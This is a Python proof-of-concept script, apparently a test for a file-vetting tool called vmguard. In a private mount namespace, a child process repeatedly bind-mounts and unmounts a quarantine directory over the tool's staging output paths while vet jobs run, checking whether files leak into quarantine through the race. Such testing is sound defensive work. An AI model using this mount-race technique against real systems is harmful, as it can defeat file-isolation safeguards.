"""Run inside a private mount namespace (`unshare -m`): a child binds a directory of the
quarantine (q/sink, empty) over the job's staging out/ directory as soon as it exists
and takes it away again, as fast as mount(2) allows, while up to N vets run one after
another; stops at the first vet after which q/sink holds anything. Prints one JSON
line: the vets' exit codes and every entry under q/sink.

    python attack_hfs_flap.py BASE POLICY N
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

MS_BIND, MNT_DETACH = 4096, 2


def targets(pub: Path, runs: int) -> list[bytes]:
    out = []
    for index in range(runs):
        staging = pub / ".vmguard-staging" / f"r{index}.staging"
        out += [staging / "out"]
    return [os.fsencode(path) for path in out]


def flap(source: bytes, paths: list[bytes]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    while True:  # each path that exists now: bound, then freed at once
        for path in paths:
            if libc.mount(source, path, None, MS_BIND, None) == 0:
                libc.umount2(path, MNT_DETACH)


def main(base: Path, policy: str, runs: int) -> None:
    q, pub = base / "q", base / "pub"
    child = os.fork()
    if child == 0:
        flap(os.fsencode(q / "sink"), targets(pub, runs))
    codes = []
    try:
        for index in range(runs):
            argv = [sys.executable, "-m", "vmguard", "vet", str(q), "--policy", policy]
            argv += ["--to", str(pub / f"r{index}"), "--job", f"r{index}", "--per-file"]
            codes.append(subprocess.run(argv, capture_output=True, timeout=120).returncode)
            if os.listdir(q / "sink"):
                break
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    sink = sorted(
        os.path.relpath(os.path.join(top, name), q / "sink")
        for top, dirs, files in os.walk(q / "sink")
        for name in dirs + files
    )
    print(json.dumps({"codes": codes, "sink": sink}))


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
